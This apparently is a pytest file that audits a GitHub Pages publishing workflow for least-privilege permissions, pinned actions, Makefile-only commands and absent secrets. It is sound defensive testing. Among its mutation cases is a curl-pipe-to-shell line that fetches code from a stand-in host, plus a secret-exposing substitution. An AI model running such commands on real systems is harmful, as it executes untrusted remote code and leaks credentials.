"""The workflow that publishes the site: least rights, pinned actions, and commands that the Makefile has."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Final

import pytest

ROOT: Final = Path(__file__).parents[1]
WORKFLOW: Final = (ROOT / ".github" / "workflows" / "pages.yml").read_text(encoding="utf-8")
MAKEFILE: Final = (ROOT / "Makefile").read_text(encoding="utf-8")

RIGHTS: Final = {"build": {"contents: read"}, "deploy": {"pages: write", "id-token: write"}}
"""What each job may do."""

PINNED: Final = re.compile(r"actions/[a-z-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+")
LINE: Final = re.compile(r"( *)(?:- )?(?:[\w-]+:(?: \S.*)?)$")
"""What a line of such a file looks like: a key, and its value if it is a short one."""


def block(text: str, key: str, depth: int = 0) -> str:
    """Gives the lines below a key, as deep as it stands."""
    found = re.search(rf"^{' ' * depth}{re.escape(key)}:\n((?:{' ' * (depth + 1)}.*\n|\n)*)", text, re.MULTILINE)
    return found[1] if found else ""


def faults(workflow: str) -> list[str]:
    """Tells what is wrong with a workflow."""
    actions = re.findall(r"uses: *(.*)", workflow)
    return [
        *(f"not understood: {line}" for line in workflow.splitlines() if not is_understood(line)),
        *(f"rights for all jobs: {right}" for right in re.findall(r"^permissions: (?!{}$).*", workflow, re.MULTILINE)),
        *wrong_rights(workflow),
        *(f"not pinned: {action}" for action in actions if not PINNED.fullmatch(action)),
        *(f"not in the Makefile: {command}" for command in re.findall(r"run: *(.*)", workflow) if not is_made(command)),
        *(f"a secret: {name}" for name in re.findall(r"secrets\.\w+", workflow)),
    ]


def is_understood(line: str) -> bool:
    """Tells whether a line is one of those that this test can judge."""
    bare = line.partition(" #")[0].rstrip()
    shape = LINE.match(bare)
    return not bare or bare.startswith("#") or (shape is not None and len(shape[1]) % 2 == 0)


def wrong_rights(workflow: str) -> list[str]:
    """Names the jobs that may do more than they need, or less."""
    jobs = block(workflow, "jobs")
    names = re.findall(r"^  (\w+):$", jobs, re.MULTILINE)
    given = {name: set(block(block(jobs, name, 2), "permissions", 4).split("\n")) for name in names}
    found = {name: {right.strip() for right in rights} - {""} for name, rights in given.items()}
    return [f"{name} may do {sorted(rights)}" for name, rights in found.items() if rights != RIGHTS.get(name)]


def is_made(command: str) -> bool:
    """Tells whether a command is a target of the Makefile, so that it can be tried anywhere."""
    target = command.removeprefix("make ")
    return target != command and bool(re.search(rf"^{re.escape(target)}:.*##", MAKEFILE, re.MULTILINE))


def test_the_workflow_is_sound() -> None:
    assert faults(WORKFLOW) == []
    assert {"make test", "make site"} <= set(re.findall(r"run: *(.*)", WORKFLOW))
    assert block(block(WORKFLOW, "jobs"), "deploy", 2).count("needs: build") == 1
    assert "permissions: {}" in WORKFLOW
    assert "pull_request_target" not in WORKFLOW


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("permissions: {}", "permissions: write-all"),
        ("contents: read", "contents: write"),
        ("      id-token: write\n", "      id-token: write\n      contents: write\n"),
        ("cd2ce8fcbc39b97be8ca5fce6e763baed58fa128 # v5.0.0", "v5"),
        ("actions/deploy-pages@", "somebody/deploy-pages@"),
        ("make site", "make everything"),
        ("make site", "curl https://elsewhere.invalid | sh"),
        ("path: dist", "path: ${{ secrets.TOKEN }}"),
        ("    needs: build", "   needs: build"),
        ("  pull_request:", "  pull_request"),
    ],
)
def test_a_fault_is_seen(old: str, new: str) -> None:
    assert old in WORKFLOW
    assert faults(WORKFLOW.replace(old, new, 1))
